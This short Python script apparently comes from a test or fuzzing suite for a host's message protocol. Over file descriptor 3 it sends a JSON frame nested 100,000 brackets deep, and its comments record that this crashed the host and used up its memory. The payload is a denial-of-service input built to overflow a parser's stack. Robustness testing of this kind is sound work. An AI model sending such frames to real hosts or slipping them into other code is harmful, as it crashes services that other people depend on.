# status: crashed
# costs: the host memory
# Nested deeper than any parser's stack.
import json
import os


def send(frame):
    body = frame if isinstance(frame, bytes) else json.dumps(frame).encode()
    data = len(body).to_bytes(4, "little") + body
    while data:
        data = data[os.write(3, data) :]


send(b'{"t":"display","mime":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
